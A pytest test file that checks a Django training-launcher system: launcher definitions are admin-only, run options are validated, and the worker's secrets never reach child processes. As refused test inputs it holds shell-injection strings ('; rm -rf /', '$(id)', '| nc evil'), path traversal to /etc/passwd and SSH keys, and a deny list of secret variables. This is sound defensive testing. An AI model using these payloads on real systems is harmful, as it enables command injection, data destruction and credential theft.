"""Launcher definitions: only a superuser defines what a training run may execute (admin and
`manage.py training_launchers`), ML engineers pick one by name and give it data, and the child
gets a minimal environment: never the worker's secrets, never an environment value stored."""

from __future__ import annotations

import json
import shlex
import sys
import textwrap
import uuid
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from annotation.services.annotators import user_create
from config.errors import ValidationFailed
from config.roles import Role
from tests.factories import DatasetVersionFactory, TrainingRunFactory
from tests.training.worlds import procedural_version
from training_bridge.datasets.services.artifacts import artifact_open
from training_bridge.models import RewardModel, TrainingLauncher, TrainingRun
from training_bridge.orchestration import training_run_execute_and_register
from training_bridge.reward_models.services.registry import reward_model_register_run
from training_bridge.training.services.launcher_definitions import (
    argv_fill,
    argv_placeholders,
    training_launcher_clean,
    training_launcher_save,
)
from training_bridge.training.services.launchers import (
    launcher_child_environment,
    training_run_execute,
)
from training_bridge.training.services.training import training_run_start

pytestmark = pytest.mark.django_db
LAUNCHERS = "/api/training-launchers/"
RUNS = "/api/training-runs/"
TOKEN = "team-token-value-123456"


def _launcher(name: str = "team-lora", **fields) -> TrainingLauncher:
    definition = training_launcher_clean(
        name=name,
        argv=fields.pop("argv", ["/opt/rm/train.sh", "--config", "{config_file}"]),
        **fields,
    )
    return training_launcher_save(definition=definition)[0]


def _client(username: str, role: Role) -> Client:
    client = Client()
    client.force_login(user_create(username=username, password="pass-12345", role=role))
    return client


@pytest.fixture
def frozen(db):
    return DatasetVersionFactory(status="frozen", content_hash="h" * 64, frozen_at=timezone.now())


# -- definitions are checked when saved ---------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "field", "message"),
    [
        ({"argv": []}, "argv", "must be a non-empty list of strings"),
        ({"argv": "python train.py {output_dir}"}, "argv", "must be a non-empty list"),
        ({"argv": ["./train.sh"]}, "argv[0]", "must be an absolute path"),
        ({"argv": ["bin/train"]}, "argv[0]", "must be an absolute path"),
        ({"argv": ["{output_dir}/train"]}, "argv[0]", "cannot hold a placeholder"),
        ({"argv": ["/t", "{data}"]}, "argv[1]", "unknown placeholder {data}"),
        ({"argv": ["/t", "{{output_dir}}"]}, "argv[1]", "brace outside a placeholder"),
        ({"argv": ["/t", "--out={output_dir"]}, "argv[1]", "brace outside a placeholder"),
        ({"argv": ["/t", 8]}, "argv[1]", "must be a string, got 8"),
        ({"argv": ["/t", "a\x00b"]}, "argv[1]", "one line of text"),
        ({"environment": {"SECRET_KEY": "x"}}, "environment.SECRET_KEY",
         "SECRET_KEY is one of the worker's secrets"),
        ({"environment": {"DATABASE_URL": "postgres://x"}}, "environment.DATABASE_URL",
         "one of the worker's secrets"),
        ({"passthrough_env": ["DATABASE_URL"]}, "passthrough_env[0]",
         "DATABASE_URL is one of the worker's secrets"),
        ({"passthrough_env": ["PATH", "CELERY_BROKER_URL"]}, "passthrough_env[1]",
         "one of the worker's secrets"),
        ({"passthrough_env": ["AWS_SECRET_ACCESS_KEY"]}, "passthrough_env[0]",
         "one of the worker's secrets"),
        ({"environment": {"AWS_ACCESS_KEY_ID": "x"}}, "environment.AWS_ACCESS_KEY_ID",
         "one of the worker's secrets"),
        ({"environment": {"CELERY_RESULT_BACKEND": "x"}}, "environment.CELERY_RESULT_BACKEND",
         "one of the worker's secrets"),
        ({"environment": {"lower": "x"}}, "environment.lower", "is not a variable name"),
        ({"environment": {"1ST": "x"}}, "environment.1ST", "is not a variable name"),
        ({"environment": {"SPATIALPREFS_RUN_ID": "1"}}, "environment.SPATIALPREFS_RUN_ID",
         "sets the SPATIALPREFS_ variables itself"),
        ({"environment": {"TOKEN": "a\nb"}}, "environment.TOKEN", "one line of text"),
        ({"environment": {"TOKEN": 5}}, "environment.TOKEN", "must be a string"),
        ({"environment": {"A": "1"}, "passthrough_env": ["A"]}, "passthrough_env[0]",
         "set in environment already"),
        ({"name": "builtin"}, "name", "'builtin' is reserved"),
        ({"name": "external"}, "name", "'external' is reserved"),
        ({"name": "Team LoRA"}, "name", "lowercase letters"),
        ({"enabled": "yes"}, "enabled", "true or false"),
    ],
)  # fmt: skip
def test_a_bad_definition_is_refused_naming_the_field(fields, field, message):
    base = {"name": "team-lora", "argv": ["/opt/rm/train.sh", "{output_dir}"]}

    with pytest.raises(ValidationFailed) as caught:
        training_launcher_clean(**{**base, **fields})

    assert caught.value.field == field
    assert message in caught.value.detail


def test_a_name_the_settings_mark_as_secret_is_refused(settings):
    settings.TRAINING_LAUNCHER_SECRET_ENV = ["WANDB_API_KEY"]

    with pytest.raises(ValidationFailed) as caught:
        training_launcher_clean(name="a", argv=["/t"], passthrough_env=["WANDB_API_KEY"])

    assert caught.value.field == "passthrough_env[0]"
    assert caught.value.detail == (
        "WANDB_API_KEY is one of the worker's secrets and never reaches a training command"
    )


def test_placeholders_are_whole_elements_or_clear_parts_and_fill_only_themselves():
    definition = training_launcher_clean(
        name="team-lora",
        argv=["torchrun", "--nproc_per_node", "8", "/opt/rm/train.py", "{dataset_dir}/parquet",
              "--out={output_dir}", "--run-name", "sp-{run_id}", "{config_file}"],
    )  # fmt: skip

    filled = argv_fill(
        definition.argv,
        {"dataset_dir": "/w/d", "output_dir": "/w/o", "config_file": "/w/c.json", "run_id": "7"},
    )

    assert argv_placeholders(definition.argv) == [
        "dataset_dir", "output_dir", "config_file", "run_id",
    ]  # fmt: skip
    assert filled == [
        "torchrun", "--nproc_per_node", "8", "/opt/rm/train.py", "/w/d/parquet", "--out=/w/o",
        "--run-name", "sp-7", "/w/c.json",
    ]  # fmt: skip


# -- only a superuser defines launchers ---------------------------------------------------------


def _add_form(**overrides) -> dict:
    form = {
        "name": "team-lora",
        "description": "LoRA",
        "argv": json.dumps(["/opt/rm/train.sh", "{config_file}"]),
        "environment": json.dumps({"TEAM_TOKEN": TOKEN}),
        "passthrough_env": json.dumps(["CUDA_VISIBLE_DEVICES"]),
        "enabled": "on",
    }
    return {**form, **overrides}


def test_an_ml_engineer_can_neither_create_nor_edit_nor_delete_a_launcher_in_the_admin():
    ml = _client("ml-a", Role.ML)
    launcher = _launcher(environment={"TEAM_TOKEN": TOKEN})
    change = reverse("admin:training_bridge_traininglauncher_change", args=[launcher.pk])
    add = reverse("admin:training_bridge_traininglauncher_add")

    assert ml.get(add).status_code == 403
    assert ml.post(add, _add_form(name="mine")).status_code == 403
    edited = ml.post(change, _add_form(argv=json.dumps(["/bin/sh", "-c", "id"])))
    deleted = ml.post(
        reverse("admin:training_bridge_traininglauncher_delete", args=[launcher.pk]),
        {"post": "yes"},
    )

    assert (edited.status_code, deleted.status_code) == (403, 403)
    assert list(TrainingLauncher.objects.values_list("name", "argv")) == [
        ("team-lora", ["/opt/rm/train.sh", "--config", "{config_file}"])
    ]


def test_an_ml_engineer_reads_a_launcher_in_the_admin_without_its_environment_values():
    ml = _client("ml-b", Role.ML)
    launcher = _launcher(environment={"TEAM_TOKEN": TOKEN})

    listing = ml.get(reverse("admin:training_bridge_traininglauncher_changelist"))
    page = ml.get(reverse("admin:training_bridge_traininglauncher_change", args=[launcher.pk]))

    assert (listing.status_code, page.status_code) == (200, 200)
    text = page.content.decode()
    assert "TEAM_TOKEN" in text and TOKEN not in text
    assert 'name="argv"' not in text and "Save" not in text


def test_a_lead_can_neither_create_nor_edit_a_launcher_in_the_admin():
    lead = _client("lead-a", Role.LEAD)
    launcher = _launcher()

    added = lead.post(reverse("admin:training_bridge_traininglauncher_add"), _add_form(name="x"))
    edited = lead.post(
        reverse("admin:training_bridge_traininglauncher_change", args=[launcher.pk]),
        _add_form(argv=json.dumps(["/bin/sh"])),
    )

    assert (added.status_code, edited.status_code) == (403, 403)
    assert list(TrainingLauncher.objects.values_list("name", "argv")) == [
        ("team-lora", ["/opt/rm/train.sh", "--config", "{config_file}"])
    ]


def test_the_start_form_offers_the_enabled_launchers_and_starts_one(frozen):
    ml = _client("ml-c", Role.ML)
    launcher = _launcher(description="LoRA on 8 GPUs")
    _launcher("old-one", enabled=False)
    add = reverse("admin:training_bridge_trainingrun_add")

    form = ml.get(add).content.decode()
    started = ml.post(
        add,
        {"dataset_version": frozen.pk, "launcher": "team-lora",
         "config": json.dumps({"options": {"rank": 8}})},
    )  # fmt: skip
    refused = ml.post(
        add,
        {"dataset_version": frozen.pk, "launcher": "team-lora",
         "config": json.dumps({"options": {"out": "/etc"}})},
    )  # fmt: skip

    assert '<option value="team-lora">team-lora: LoRA on 8 GPUs</option>' in form
    assert '<option value="builtin">' in form and "old-one" not in form
    assert started.status_code == 302
    run = TrainingRun.objects.get()
    assert (run.launcher_definition_id, run.config["options"]) == (launcher.pk, {"rank": 8})
    assert refused.status_code == 200
    assert "config.options.out: &#x27;/etc&#x27; is an absolute path" in refused.content.decode()
    assert TrainingRun.objects.count() == 1


def test_a_superuser_defines_a_launcher_in_the_admin_and_a_secret_name_is_refused():
    admin = _client("root", Role.ADMIN)
    add = reverse("admin:training_bridge_traininglauncher_add")

    refused = admin.post(add, _add_form(environment=json.dumps({"SECRET_KEY": "x"})))
    created = admin.post(add, _add_form())

    assert refused.status_code == 200
    assert "environment.SECRET_KEY: SECRET_KEY is one of the worker&#x27;s secrets" in (
        refused.content.decode()
    )
    assert created.status_code == 302
    launcher = TrainingLauncher.objects.get()
    assert (launcher.name, launcher.argv, launcher.environment, launcher.passthrough_env) == (
        "team-lora", ["/opt/rm/train.sh", "{config_file}"], {"TEAM_TOKEN": TOKEN},
        ["CUDA_VISIBLE_DEVICES"],
    )  # fmt: skip


# -- the load command ---------------------------------------------------------------------------

YAML = """
launchers:
  - name: team-lora
    description: Qwen-VL LoRA reward model
    argv: [torchrun, --nproc_per_node, "8", /opt/rm/train_lora.py, --data, "{dataset_dir}/parquet",
           --out, "{output_dir}", --config, "{config_file}", --run-name, "sp-{run_id}"]
    environment: {HF_HOME: /models/hf-cache, NCCL_DEBUG: WARN}
    passthrough_env: [CUDA_VISIBLE_DEVICES]
  - name: quick-eval
    argv: [/opt/rm/eval.sh, "{config_file}"]
    enabled: false
"""


def test_the_load_command_creates_then_leaves_unchanged_then_updates_by_name(tmp_path, capsys):
    path = tmp_path / "launchers.yaml"
    path.write_text(YAML)

    call_command("training_launchers", "load", str(path))
    call_command("training_launchers", "load", str(path))
    path.write_text(YAML.replace("Qwen-VL LoRA reward model", "Qwen-VL LoRA, rank 16"))
    call_command("training_launchers", "load", str(path))
    call_command("training_launchers", "list")

    out = capsys.readouterr().out.splitlines()
    assert out[:6] == [
        "team-lora: created", "quick-eval: created",
        "team-lora: unchanged", "quick-eval: unchanged",
        "team-lora: updated", "quick-eval: unchanged",
    ]  # fmt: skip
    assert out[6].startswith('team-lora (enabled): ["torchrun", "--nproc_per_node", "8"')
    assert out[6].endswith(
        "placeholders=dataset_dir,output_dir,config_file,run_id  "
        "env=CUDA_VISIBLE_DEVICES,HF_HOME,NCCL_DEBUG"
    )
    assert "/models/hf-cache" not in "\n".join(out)
    assert out[7] == (
        'quick-eval (disabled): ["/opt/rm/eval.sh", "{config_file}"]  placeholders=config_file'
        "  env=-"
    )
    lora = TrainingLauncher.objects.get(name="team-lora")
    assert (lora.description, lora.environment) == (
        "Qwen-VL LoRA, rank 16",
        {"HF_HOME": "/models/hf-cache", "NCCL_DEBUG": "WARN"},
    )
    assert TrainingLauncher.objects.count() == 2


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("l.yaml", YAML + "  - name: leaky\n    argv: [/t]\n    environment: {SECRET_KEY: x}\n",
         r"launchers\[2\]\.environment\.SECRET_KEY: SECRET_KEY is one of the worker's secrets"),
        ("l.yaml", YAML + "  - name: leaky\n    argv: [/t]\n    passthrough_env: [DATABASE_URL]\n",
         r"launchers\[2\]\.passthrough_env\[0\]: DATABASE_URL is one of the worker's secrets"),
        ("l.yaml", YAML + "  - name: x\n    argv: [/t, '{nope}']\n",
         r"launchers\[2\]\.argv\[1\]: unknown placeholder \{nope\}"),
        ("l.yaml", YAML + "  - name: x\n    argv: [/t]\n    command: rm -rf /\n",
         r"launchers\[2\]\.command: unknown key"),
        ("l.yaml", YAML + "  - name: x\n", r"launchers\[2\]\.argv: is required"),
        ("l.yaml", YAML + "  - name: team-lora\n    argv: [/t]\n",
         r"launchers\[2\]\.name: 'team-lora' is defined twice"),
        ("l.yaml", "launchers: [", r"file: .*l\.yaml is not valid YAML"),
        ("l.json", '{"launchers": [{"name": "x", "argv": ["./t"]}]}',
         r"launchers\[0\]\.argv\[0\]: '\./t' must be an absolute path"),
        ("l.json", "{nope", r"file: .*l\.json is not valid JSON"),
        ("l.json", '{"launcher": []}', r"launcher: unknown key; the file holds `launchers`"),
        ("l.json", '{"launchers": [{"name": "x", "argv": ["/t", "a\\u0000b"]}]}',
         r"launchers\[0\]\.argv\[1\]: contains a NUL character"),
        ("l.json", "[" * 100_000, r"file: .*l\.json is nested too deeply"),
        ("l.yaml", "launchers:\n  - name: x\n    argv: [/t, \"\\ud800\"]\n",
         r"launchers\[0\]\.argv\[1\]: contains a lone surrogate"),
    ],
)  # fmt: skip
def test_a_bad_launchers_file_is_a_command_error_naming_the_field_and_writes_nothing(
    tmp_path, name, text, message
):
    path = tmp_path / name
    path.write_text(text)

    with pytest.raises(CommandError, match=message):
        call_command("training_launchers", "load", str(path))

    assert TrainingLauncher.objects.count() == 0


def test_a_dry_run_checks_the_file_and_writes_nothing(tmp_path, capsys):
    path = tmp_path / "launchers.yaml"
    path.write_text(YAML)

    call_command("training_launchers", "load", str(path), "--dry-run")

    assert capsys.readouterr().out.splitlines() == [
        "team-lora: created", "quick-eval: created", "dry run: nothing written",
    ]  # fmt: skip
    assert TrainingLauncher.objects.count() == 0


# -- the API lists them, read only --------------------------------------------------------------


def test_ml_engineers_and_leads_list_launchers_without_environment_values(ml_client, lead_client):
    launcher = _launcher(
        argv=["/opt/rm/train.sh", "--out={output_dir}", "{config_file}"],
        description="LoRA on 8 GPUs",
        environment={"TEAM_TOKEN": TOKEN},
    )
    _launcher("old-one", enabled=False)

    response = ml_client.get(LAUNCHERS)

    assert response.status_code == 200
    rows = response.json()
    assert [row.pop("updated_at")[:10] for row in rows] == [
        launcher.updated_at.date().isoformat()
    ] * 2
    assert rows == [
        {"name": "team-lora", "description": "LoRA on 8 GPUs", "enabled": True,
         "placeholders": ["output_dir", "config_file"]},
        {"name": "old-one", "description": "", "enabled": False, "placeholders": ["config_file"]},
    ]  # fmt: skip
    assert TOKEN not in response.content.decode()
    assert lead_client.get(LAUNCHERS).status_code == 200


def test_launchers_cannot_be_written_through_the_api(ml_client, annotator_client):
    _launcher()
    body = {"name": "mine", "argv": ["/bin/sh", "-c", "id"]}

    answers = [
        ml_client.post(LAUNCHERS, body, format="json").status_code,
        ml_client.put(LAUNCHERS, body, format="json").status_code,
        ml_client.patch(LAUNCHERS, body, format="json").status_code,
        ml_client.delete(LAUNCHERS).status_code,
        ml_client.post(f"{LAUNCHERS}team-lora/", body, format="json").status_code,
        annotator_client.get(LAUNCHERS).status_code,
    ]

    assert answers == [405, 405, 405, 405, 404, 403]
    assert list(TrainingLauncher.objects.values_list("name", flat=True)) == ["team-lora"]


def test_the_schema_describes_the_launchers_list_as_read_only(ml_client):
    schema = ml_client.get("/api/schema/", {"format": "json"}).json()

    operations = schema["paths"]["/api/training-launchers/"]
    assert set(operations) == {"get"}
    assert operations["get"]["operationId"] == "training_launchers_list"
    item = operations["get"]["responses"]["200"]["content"]["application/json"]["schema"]
    assert item["type"] == "array"
    name = item["items"]["$ref"].rsplit("/", 1)[1]
    assert set(schema["components"]["schemas"][name]["properties"]) == {
        "name", "description", "enabled", "placeholders", "updated_at",
    }  # fmt: skip


# -- a run picks a launcher by name and gives it data -------------------------------------------


@pytest.mark.parametrize(
    ("options", "field", "message"),
    [
        ({"data_path": "train; rm -rf /"}, "config.options.data_path",
         "contains ';', a shell metacharacter"),
        ({"data_path": "$(id)"}, "config.options.data_path", "contains '$', a shell"),
        ({"data_path": "`id`"}, "config.options.data_path", "contains '`', a shell"),
        ({"data_path": "a | nc evil 1"}, "config.options.data_path", "contains '|'"),
        ({"data_path": "a && b"}, "config.options.data_path", "contains '&'"),
        ({"data_path": "a > /etc/x"}, "config.options.data_path", "contains '>'"),
        ({"data_path": "a\nb"}, "config.options.data_path", "contains a newline"),
        ({"data_path": "a\x00b"}, "config.options.data_path", "contains a NUL"),
        ({"data_path": "../../etc/passwd"}, "config.options.data_path",
         "leaves the run's folder ('..')"),
        ({"data_path": "parquet/../../x"}, "config.options.data_path", "leaves the run's folder"),
        ({"data_path": "/etc/passwd"}, "config.options.data_path", "is an absolute path"),
        ({"data_path": "~/.ssh/id_rsa"}, "config.options.data_path", "is an absolute path"),
        ({"tags": ["ok", "x;y"]}, "config.options.tags[1]", "contains ';'"),
        ({"nested": {"a": 1}}, "config.options.nested", "must be a string, number"),
        ({"rows": [[1]]}, "config.options.rows[0]", "must be a string, number"),
    ],
)  # fmt: skip
def test_an_option_with_shell_or_a_path_outside_the_run_is_a_400_naming_it(
    ml_client, frozen, options, field, message
):
    _launcher()

    response = ml_client.post(
        RUNS,
        {"dataset_version": frozen.pk, "config": {"launcher": "team-lora", "options": options}},
        format="json",
    )

    assert response.status_code == 400
    assert response.json()["field"] == field
    assert message in response.json()["detail"]
    assert TrainingRun.objects.count() == 0


@pytest.mark.parametrize(
    ("config", "field", "message"),
    [
        ({"launcher": "team-lora", "command": "python train.py {output_dir}"}, "config.command",
         "a run config carries no command: ask an admin to define a launcher"),
        ({"launcher": "external", "command": "bash -c 'id'"}, "config.command",
         "ask an admin to define a launcher"),
        ({"command": "id"}, "config.command", "ask an admin"),
        ({"launcher": "nope"}, "config.launcher", "unknown launcher 'nope'; choose builtin or "
         "one of team-lora"),
        ({"launcher": "off"}, "config.launcher", "unknown launcher 'off'"),
        ({"launcher": "team-lora", "backbone": "clip"}, "config.backbone",
         "its settings go under options"),
        ({"launcher": "team-lora", "options": ["a"]}, "config.options", "must be an object"),
        ({"options": {"a": 1}}, "config.options", "the built-in trainer takes its settings"),
        ({"backbone": "clip", "model_path": "/m;id"}, "config.model_path", "contains ';'"),
    ],
)  # fmt: skip
def test_a_config_carrying_a_command_or_naming_no_enabled_launcher_is_a_400(
    ml_client, frozen, config, field, message
):
    _launcher()
    _launcher("off", enabled=False)

    response = ml_client.post(RUNS, {"dataset_version": frozen.pk, "config": config}, format="json")

    assert response.status_code == 400
    assert response.json()["field"] == field
    assert message in response.json()["detail"]
    assert TrainingRun.objects.count() == 0


def test_a_run_of_a_launcher_records_the_definition_and_its_checked_options(ml_client, frozen):
    launcher = _launcher()
    options = {"lora_rank": 16, "data_subdir": "parquet/train", "tags": ["a", "b"], "lr": 1e-4,
               "resume": None, "bf16": True, "url": "https://example.org/x?y=1"}  # fmt: skip

    response = ml_client.post(
        RUNS,
        {"dataset_version": frozen.pk,
         "config": {"launcher": "team-lora", "model_name": "vlm-rm", "options": options}},
        format="json",
    )  # fmt: skip

    assert response.status_code == 201
    data = response.json()
    assert (data["launcher"], data["launcher_definition"]) == ("team-lora", launcher.pk)
    assert data["config"] == {"launcher": "team-lora", "model_name": "vlm-rm",
                              "dataset_format": "parquet", "options": options}  # fmt: skip
    run = TrainingRun.objects.get()
    assert (run.launcher, run.launcher_definition_id) == ("team-lora", launcher.pk)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--set", "launcher=team-lora", "--set", "options.data_path=$(id)"],
         r"config\.options\.data_path: contains '\$', a shell metacharacter"),
        (["--set", "launcher=team-lora", "--set", "options.out=../../x"],
         r"config\.options\.out: '\.\./\.\./x' leaves the run's folder"),
        (["--config", '{"launcher": "team-lora", "options": {"x": "a;b"}}'],
         r"config\.options\.x: contains ';'"),
        (["--config", '{"launcher": "external", "command": "id"}'],
         r"config\.command: a run config carries no command"),
        (["--config", "[" * 100_000], r"config: nests deeper than 64 levels"),
        (["--config", '{"launcher": "team-lora", "options": {"x": "a\\u0000"}}'],
         r"config\.options\.x: contains a NUL character"),
    ],
)  # fmt: skip
def test_the_train_command_refuses_shell_and_commands_naming_the_field(frozen, args, message):
    _launcher()

    with pytest.raises(CommandError, match=message):
        call_command("train", "start", "--version-id", str(frozen.pk), *args)

    assert TrainingRun.objects.count() == 0


# -- what the child gets ------------------------------------------------------------------------


def test_the_builtin_trainer_gets_the_torch_variables_and_none_of_the_workers_secrets(tmp_path):
    worker_env = {
        "PATH": "/usr/bin", "LANG": "en_US.UTF-8", "HOME": "/home/worker",
        "SECRET_KEY": "k" * 50, "DATABASE_URL": "postgres://u:p@db/sp",
        "CELERY_BROKER_URL": "redis://:pw@redis:6379/0", "AWS_SECRET_ACCESS_KEY": "s3-secret",
        "AWS_ACCESS_KEY_ID": "AKIA", "CUDA_VISIBLE_DEVICES": "0,1", "OMP_NUM_THREADS": "4",
        "PYTHONPATH": "/somewhere/else", "TEAM_TOKEN": TOKEN,
    }  # fmt: skip

    env = launcher_child_environment(
        worker_env=worker_env, run_id=7, work=tmp_path, dataset_dir=tmp_path / "dataset",
        output_dir=tmp_path / "output", config_file=tmp_path / "config.json",
        cancel_file=tmp_path / "cancel", definition=None,
    )  # fmt: skip

    assert env == {
        "PATH": "/usr/bin", "LANG": "en_US.UTF-8", "HOME": str(tmp_path),
        "PYTHONUNBUFFERED": "1", "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
        "CUDA_VISIBLE_DEVICES": "0,1", "OMP_NUM_THREADS": "4",
        "SPATIALPREFS_RUN_ID": "7", "SPATIALPREFS_DATASET_DIR": str(tmp_path / "dataset"),
        "SPATIALPREFS_OUTPUT_DIR": str(tmp_path / "output"),
        "SPATIALPREFS_CONFIG_FILE": str(tmp_path / "config.json"),
        "SPATIALPREFS_CANCEL_FILE": str(tmp_path / "cancel"),
    }  # fmt: skip


ENV_DUMP = textwrap.dedent(
    """
    import json, os, pathlib, sys
    out, config = pathlib.Path(sys.argv[1]), json.loads(pathlib.Path(sys.argv[2]).read_text())
    (out / "environment.json").write_text(json.dumps(dict(os.environ)))
    (out / "config.json").write_text(json.dumps(config))
    (out / "cwd.txt").write_text(os.getcwd())
    with (out / "metrics.jsonl").open("w") as metrics:
        metrics.write(json.dumps({"name": "train/loss", "step": 1, "value": 0.5}) + "\\n")
    print("token", os.environ["TEAM_TOKEN"], "passed", os.environ.get("TEAM_PASSED"))
    secret = os.environ.get("SECRET_KEY", "no secret key")
    print("secret", secret, "database", os.environ.get("DATABASE_URL", "no database url"))
    if config["options"].get("fail"):
        sys.stderr.write("RuntimeError: bad token " + os.environ["TEAM_TOKEN"] + "\\n")
        sys.exit(4)
    """
)
WORKER_SECRETS = {
    "SECRET_KEY": "sentinel-secret-key-0123456789",
    "DATABASE_URL": "postgres://sp:sentinel-db-password@db:5432/sp",
    "CELERY_BROKER_URL": "redis://:sentinel-broker@redis:6379/0",
    "AWS_SECRET_ACCESS_KEY": "sentinel-aws-secret",
    "AWS_ACCESS_KEY_ID": "sentinel-aws-id",
}
ALLOWED = {"PATH", "LANG", "LC_ALL", "LC_CTYPE", "HOME", "PYTHONUNBUFFERED", "TEAM_TOKEN",
           "TEAM_PASSED", "SPATIALPREFS_RUN_ID", "SPATIALPREFS_DATASET_DIR",
           "SPATIALPREFS_OUTPUT_DIR", "SPATIALPREFS_CONFIG_FILE",
           "SPATIALPREFS_CANCEL_FILE"}  # fmt: skip


@pytest.fixture
def env_dump_launcher(tmp_path, monkeypatch) -> TrainingLauncher:
    """A real definition: the venv's python running a script that writes its environment into
    {output_dir}; the worker (this process) holds the secrets a web or worker process holds."""
    for name, value in WORKER_SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("TEAM_PASSED", "passed-value-abcdef")
    script = tmp_path / "dump_env.py"
    script.write_text(ENV_DUMP)
    return _launcher(
        "env-dump",
        argv=[sys.executable, str(script), "{output_dir}", "{config_file}"],
        environment={"TEAM_TOKEN": TOKEN},
        passthrough_env=["TEAM_PASSED"],
    )


def _artifact(run: TrainingRun, name: str) -> bytes:
    key = next(a["key"] for a in run.artifacts if a["name"] == name)
    with artifact_open(key=key) as handle:
        return handle.read()


def test_a_launchers_child_sees_its_listed_environment_and_never_the_workers_secrets(
    env_dump_launcher,
):
    version = procedural_version(groups=4, seeds=1, size=32)
    config = {"launcher": "env-dump", "options": {"data_subdir": "parquet", "rank": 8}}
    run = training_run_start(version_id=version.pk, config=config, enqueue=False).run

    run = training_run_execute(run_id=run.pk)

    assert run.status == "succeeded", (run.error, run.log_tail)
    env = json.loads(_artifact(run, "environment.json"))
    assert not set(WORKER_SECRETS) & set(env)
    assert set(env) - {"LANG", "LC_ALL", "LC_CTYPE"} == ALLOWED - {"LANG", "LC_ALL", "LC_CTYPE"}
    assert (env["TEAM_TOKEN"], env["TEAM_PASSED"]) == (TOKEN, "passed-value-abcdef")
    assert env["HOME"] == _artifact(run, "cwd.txt").decode()
    assert Path(env["HOME"]).name.startswith(f"spatialprefs-run-{run.pk}-")
    assert env["SPATIALPREFS_RUN_ID"] == str(run.pk)
    assert json.loads(_artifact(run, "config.json")) == {
        "launcher": "env-dump", "model_name": "spatial-rm", "dataset_format": "parquet",
        "options": {"data_subdir": "parquet", "rank": 8},
    }  # fmt: skip
    # what is stored of the run holds no environment value, the argv only
    stored = "\n".join([run.log_tail, run.error, json.dumps(run.summary),
                        _artifact(run, "train.log").decode()])  # fmt: skip
    for value in [TOKEN, "passed-value-abcdef", *WORKER_SECRETS.values()]:
        assert value not in stored
    assert "token [REDACTED] passed [REDACTED]" in run.log_tail
    assert "secret no secret key database no database url" in run.log_tail
    starting = next(line for line in run.log_tail.splitlines() if " launcher starting: " in line)
    argv = [*env_dump_launcher.argv[:2], env["SPATIALPREFS_OUTPUT_DIR"],
            env["SPATIALPREFS_CONFIG_FILE"]]  # fmt: skip
    assert starting.split(" launcher starting: ")[1] == shlex.join(argv)


def test_a_succeeded_run_gets_exactly_one_registered_model(env_dump_launcher):
    # given a queued run of a launcher that succeeds
    version = procedural_version(groups=4, seeds=1, size=32)
    run = training_run_start(
        version_id=version.pk, config={"launcher": "env-dump"}, enqueue=False
    ).run

    # when the execute task's path runs it, the message comes again, and the API's
    # "register by id" backstop is called for the same run
    done = training_run_execute_and_register(run_id=run.pk)
    again = training_run_execute_and_register(run_id=run.pk)
    backstop = reward_model_register_run(run_id=run.pk)

    # then the run succeeded once and has one model, the one the backstop returns
    assert (done.status, again.status, again.attempt) == ("succeeded", "succeeded", 1)
    assert list(RewardModel.objects.values_list("run_id", "name", "version", "status")) == [
        (run.pk, "spatial-rm", 1, "candidate")
    ]
    assert (backstop.created, backstop.model.pk) == (False, RewardModel.objects.get().pk)


def test_the_launcher_alone_registers_no_model(env_dump_launcher):
    version = procedural_version(groups=4, seeds=1, size=32)
    run = training_run_start(
        version_id=version.pk, config={"launcher": "env-dump"}, enqueue=False
    ).run

    run = training_run_execute(run_id=run.pk)

    assert run.status == "succeeded"
    assert RewardModel.objects.count() == 0


def test_a_failing_launchers_error_and_log_tail_hold_no_environment_value(env_dump_launcher):
    version = procedural_version(groups=4, seeds=1, size=32)
    config = {"launcher": "env-dump", "options": {"fail": True}}
    run = training_run_start(version_id=version.pk, config=config, enqueue=False).run

    run = training_run_execute(run_id=run.pk)

    assert run.status == "failed"
    assert run.error == "the trainer exited with status 4: RuntimeError: bad token [REDACTED]"
    assert TOKEN not in run.log_tail and "token [REDACTED]" in run.log_tail


def test_a_queued_run_that_still_carries_a_command_fails_and_runs_nothing(tmp_path):
    marker = tmp_path / f"ran-{uuid.uuid4().hex}"
    version = procedural_version(groups=4, seeds=1, size=32)
    run = TrainingRunFactory(
        dataset_version=version,
        launcher="external",
        config={"launcher": "external", "command": f"touch {marker}", "model_name": "x"},
    )

    run = training_run_execute(run_id=run.pk)

    assert run.status == "failed"
    assert run.error == (
        "config.command: this run's config carries a raw command, which no longer runs: ask an "
        "admin to define a launcher for it and start a new run that picks it by name"
    )
    assert not marker.exists()
    assert run.config["command"] == f"touch {marker}"  # still readable


def test_a_run_whose_launcher_was_disabled_after_it_was_queued_fails(env_dump_launcher):
    version = procedural_version(groups=4, seeds=1, size=32)
    run = training_run_start(
        version_id=version.pk, config={"launcher": "env-dump"}, enqueue=False
    ).run
    TrainingLauncher.objects.filter(pk=env_dump_launcher.pk).update(enabled=False)

    run = training_run_execute(run_id=run.pk)

    assert (run.status, run.error) == (
        "failed",
        "config.launcher: launcher 'env-dump' was disabled after the run was queued",
    )


def test_a_definition_edited_past_the_checks_to_list_a_secret_fails_its_run(env_dump_launcher):
    version = procedural_version(groups=4, seeds=1, size=32)
    run = training_run_start(
        version_id=version.pk, config={"launcher": "env-dump"}, enqueue=False
    ).run
    TrainingLauncher.objects.filter(pk=env_dump_launcher.pk).update(
        passthrough_env=["DATABASE_URL"]
    )

    run = training_run_execute(run_id=run.pk)

    assert run.status == "failed"
    assert run.error.startswith(
        "config.launcher: launcher 'env-dump' is not valid any more (passthrough_env[0]: "
        "DATABASE_URL is one of the worker's secrets"
    )
    assert "sentinel-db-password" not in run.log_tail
